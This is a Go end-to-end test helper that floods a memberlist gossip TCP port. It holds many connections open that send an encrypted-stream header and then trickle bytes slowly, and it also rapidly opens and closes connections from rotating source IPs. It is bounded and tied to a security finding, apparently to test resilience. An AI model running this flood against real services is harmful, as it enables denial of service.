//go:build e2e

package e2e

import (
	"context"
	"encoding/binary"
	"fmt"
	"net"
	"sync"
	"sync/atomic"
	"time"
)

// StreamFlood is a stranger's flood of a gossip TCP port, as one without
// the gossip key can make it (issue 36, finding 6): Streams connections
// held at once, each sending memberlist's encrypted-stream header (type
// 10 and a 4-byte length) declaring Declared bytes, then Burst bytes as
// fast as the target reads them, then Trickle bytes every Every until the target closes it (then
// it is opened again, at once if it was held for a while, else after a
// pause); and besides them ConnectRate connections a second that are
// closed as soon as they are open. The sources (IPs of the host, see
// AddIPs) are used in turn. It is bounded in count (Streams, ConnectRate,
// at most connectInFlight dials in flight) and in time (it stops by itself
// after the duration given to StartStreamFlood).
type StreamFlood struct {
	Streams     int
	Declared    uint32
	Burst       int
	Trickle     int
	Every       time.Duration
	ConnectRate float64

	cancel  context.CancelFunc
	wg      sync.WaitGroup
	dialer  *NSDialer
	target  string
	sources []net.Addr
	next    atomic.Uint64

	opened, connects, dialErrs, closedByPeer atomic.Int64
	held                                     atomic.Int64
}

// StreamFloodStats is what a stream flood did.
type StreamFloodStats struct {
	Opened       int64 // held streams established
	Connects     int64 // connect-and-close connections established
	DialErrors   int64
	ClosedByPeer int64 // held streams the target closed
}

func (s StreamFloodStats) String() string {
	return fmt.Sprintf("%d streams opened (%d closed by the target), %d connect-and-close, %d dial errors",
		s.Opened, s.ClosedByPeer, s.Connects, s.DialErrors)
}

// connectInFlight bounds the connect-and-close dials under way.
const connectInFlight = 64

// Start starts the flood from h to target (host:port) for at most d, from
// sources in turn (none: h's IP). It uses h's own dialer (see
// StartConnFlood for why not a new one).
func (f *StreamFlood) Start(h *Host, sources []string, target string, d time.Duration) {
	ctx, cancel := context.WithTimeout(context.Background(), d)
	f.cancel, f.dialer, f.target = cancel, h.dialer, target
	for _, ip := range sources {
		f.sources = append(f.sources, &net.TCPAddr{IP: net.ParseIP(ip)})
	}
	for range f.Streams {
		f.wg.Add(1)
		go f.stream(ctx)
	}
	if f.ConnectRate > 0 {
		f.wg.Add(1)
		go f.churn(ctx)
	}
}

// Held is the number of streams open now.
func (f *StreamFlood) Held() int64 { return f.held.Load() }

// Stop ends the flood (if it has not ended by itself) and waits for it.
// Idempotent.
func (f *StreamFlood) Stop() StreamFloodStats {
	f.cancel()
	f.wg.Wait()
	return StreamFloodStats{Opened: f.opened.Load(), Connects: f.connects.Load(), DialErrors: f.dialErrs.Load(),
		ClosedByPeer: f.closedByPeer.Load()}
}

func (f *StreamFlood) dial(ctx context.Context) (net.Conn, error) {
	var local net.Addr
	if len(f.sources) > 0 {
		local = f.sources[int(f.next.Add(1))%len(f.sources)]
	}
	dctx, cancel := context.WithTimeout(ctx, time.Second)
	defer cancel()
	c, err := f.dialer.DialFromContext(dctx, local, "tcp", f.target)
	if err != nil && ctx.Err() == nil {
		f.dialErrs.Add(1)
	}
	return c, err
}

// stream keeps one held stream open until ctx ends.
func (f *StreamFlood) stream(ctx context.Context) {
	defer f.wg.Done()
	payload := make([]byte, min(max(f.Burst, f.Trickle), 64<<10))
	for i := range payload {
		payload[i] = byte(i*7 + 1)
	}
	hdr := []byte{10, 0, 0, 0, 0}
	binary.BigEndian.PutUint32(hdr[1:], f.Declared)
	for ctx.Err() == nil {
		c, err := f.dial(ctx)
		if err != nil {
			sleepCtx(ctx, 100*time.Millisecond)
			continue
		}
		f.opened.Add(1)
		f.held.Add(1)
		start := time.Now()
		f.trickle(ctx, c, hdr, payload)
		f.held.Add(-1)
		c.Close()
		if ctx.Err() == nil {
			f.closedByPeer.Add(1)
		}
		if time.Since(start) < floodHeldFor {
			sleepCtx(ctx, 200*time.Millisecond) // refused at once: no busy loop
		}
	}
}

// trickle writes the header, the burst, then Trickle bytes every Every,
// until a write fails (the target closed the stream) or ctx ends.
func (f *StreamFlood) trickle(ctx context.Context, c net.Conn, hdr, payload []byte) {
	stop := context.AfterFunc(ctx, func() { c.Close() })
	defer stop()
	c.SetWriteDeadline(time.Now().Add(5 * time.Second))
	if _, err := c.Write(hdr); err != nil {
		return
	}
	for sent := 0; sent < f.Burst; {
		n, err := c.Write(payload[:min(len(payload), f.Burst-sent)])
		if err != nil {
			return
		}
		sent += n
	}
	// A reader notices the close at once even while we only write.
	closed := make(chan struct{})
	go func() {
		defer close(closed)
		buf := make([]byte, 512)
		for {
			if _, err := c.Read(buf); err != nil {
				return
			}
		}
	}()
	tick := time.NewTicker(f.Every)
	defer tick.Stop()
	for {
		select {
		case <-ctx.Done():
			return
		case <-closed:
			return
		case <-tick.C:
		}
		c.SetWriteDeadline(time.Now().Add(5 * time.Second))
		if _, err := c.Write(payload[:f.Trickle]); err != nil {
			return
		}
	}
}

// churn opens ConnectRate connections a second and closes each at once.
func (f *StreamFlood) churn(ctx context.Context) {
	defer f.wg.Done()
	sem := make(chan struct{}, connectInFlight)
	var wg sync.WaitGroup
	defer wg.Wait()
	tick := time.NewTicker(time.Duration(float64(time.Second) / f.ConnectRate))
	defer tick.Stop()
	for {
		select {
		case <-ctx.Done():
			return
		case <-tick.C:
		}
		select {
		case sem <- struct{}{}:
		default:
			continue // connectInFlight under way: skip this one
		}
		wg.Add(1)
		go func() {
			defer wg.Done()
			defer func() { <-sem }()
			if c, err := f.dial(ctx); err == nil {
				f.connects.Add(1)
				c.Close()
			}
		}()
	}
}

func sleepCtx(ctx context.Context, d time.Duration) {
	t := time.NewTimer(d)
	defer t.Stop()
	select {
	case <-ctx.Done():
	case <-t.C:
	}
}
